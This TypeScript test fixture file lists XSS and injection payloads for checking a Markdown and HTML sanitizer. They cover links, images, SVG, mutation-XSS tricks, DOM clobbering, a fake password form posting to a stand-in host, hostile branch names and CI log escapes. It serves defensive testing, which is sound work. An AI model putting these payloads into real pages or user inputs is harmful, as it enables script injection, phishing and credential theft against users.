/** Texts that try to run a script, to load from another server, or to look like a part of the page. `alert` and `elsewhere.test` reveal it. */

const RUN = 'alert(1)';

/** Markdown whose links, images and code try it. */
const MARKDOWN: readonly string[] = [
  `[a](javascript:${RUN})`,
  `[a](JaVaScRiPt:${RUN})`,
  `[a](java&#10;script:${RUN})`,
  `[a](&#x6A;avascript:${RUN})`,
  `[a](\u0001javascript:${RUN})`,
  `[a]: javascript:${RUN}\n\n[a] ![a]`,
  `[a](vbscript:${RUN}) [b](data:text/html,<script>${RUN}</script>)`,
  `<javascript:${RUN}>`,
  `[a](x "y\\" onclick=\\"${RUN}")`,
  `![a](x "y\\" onerror=\\"${RUN}")`,
  `![](https://elsewhere.test/a.png) ![](//elsewhere.test/a.png) ![](\\\\\\\\elsewhere.test/a.png)`,
  `[![a](https://elsewhere.test/a.png)](https://elsewhere.test/)`,
  `![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `https://elsewhere.test/"onmouseover="${RUN} <https://elsewhere.test/'onclick='${RUN}>`,
  `\`\`\`"><script>${RUN}</script>\nx\n\`\`\``,
  `\`\`\`html\n</code></pre><img src=x onerror=${RUN}>\n\`\`\``,
  `- [ ] <img src=x onerror=${RUN}>`,
  `| <script>${RUN}</script> | b |\n|---|---|\n| <img src=x onerror=${RUN}> | b |`,
  `~"<img src=x onerror=${RUN}>" %"<script>${RUN}</script>" @<b>x</b>`,
];

/** HTML in Markdown: elements and attributes that run or load something, also by the way in which browsers repair HTML. */
const HTML: readonly string[] = [
  `<script>${RUN}</script><script src="https://elsewhere.test/a.js"></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img srcset="https://elsewhere.test/a.png 1x">`,
  `<picture><source srcset="https://elsewhere.test/a.png"><img src="https://elsewhere.test/a.png"></picture>`,
  `<svg onload=${RUN}><script>${RUN}</script><image href="https://elsewhere.test/a.png"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>">`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<iframe src="javascript:${RUN}"></iframe><iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="https://elsewhere.test/"></iframe><object data="https://elsewhere.test/"></object><embed src="https://elsewhere.test/">`,
  `<link rel=stylesheet href="https://elsewhere.test/a.css"><style>@import "https://elsewhere.test/b.css"; body { display: none }</style>`,
  `<meta http-equiv=refresh content="0; url=https://elsewhere.test/"><base href="https://elsewhere.test/">`,
  `<form action="https://elsewhere.test/"><input name=password type=password><input type=image src="https://elsewhere.test/a.png"><button formaction="javascript:${RUN}">Sign in</button></form>`,
  `<video src="https://elsewhere.test/a.mp4" poster="https://elsewhere.test/a.png" autoplay onerror=${RUN}></video><audio src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}><summary>a</summary></details><marquee onstart=${RUN}>`,
  `<body onload=${RUN} background="https://elsewhere.test/a.png">`,
  `<a href=" javascript:${RUN}">a</a><a href="java\tscript:${RUN}">b</a><a xlink:href="javascript:${RUN}">c</a>`,
  `<a href="https://elsewhere.test/" ping="https://elsewhere.test/ping" target=_top onclick=${RUN} style="position:fixed;inset:0">a</a>`,
  `<p style="background: url(https://elsewhere.test/a.png)" id=main class="dialog header" contenteditable>a</p>`,
  `<table background="https://elsewhere.test/a.png"><td background="https://elsewhere.test/b.png">`,
  `<img name=body><img id=cookie><a id=location name=location href="cid:x">a</a><input id=app name=csrf-token>`,
  `<div><template shadowrootmode=open><img src=x onerror=${RUN}></template></div>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  `<dialog open>Session expired</dialog><p popover id=p>a</p><button popovertarget=p>b</button>`,
  `<p onclick=${RUN} onfocus=${RUN} tabindex=1 autofocus accesskey=x>a</p>`,
];

export const HOSTILE_MARKDOWN: readonly string[] = [...MARKDOWN, ...HTML];

/** Names of files, branches, people and everything else that has one. */
export const HOSTILE_NAME = `"><img src=x onerror=${RUN}>`;

/** A branch: git allows no blanks, `[` and `:` in names. */
export const HOSTILE_BRANCH = `"><img/src=x/onerror=${RUN}>`;

export const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${RUN}"><script>${RUN}</script><image href="https://elsewhere.test/a.png"/></svg>`;

export const HOSTILE_LOG = [
  `\x1b]8;;javascript:${RUN}\x07link\x1b]8;;\x07`,
  `\x1b[31m<img src=x onerror=${RUN}>\x1b[0m`,
  `section_start:1:"><img src=x onerror=${RUN}>\r\x1b[0K<script>${RUN}</script>`,
  `section_start:1:name[collapsed=true,x="><img src=x onerror=${RUN}>]\r\x1b[0K<img src=x onerror=${RUN}>`,
  `\x1b["><script>${RUN}</script>m`,
  'section_end:2:name\r\x1b[0K',
  'the last line',
].join('\n');
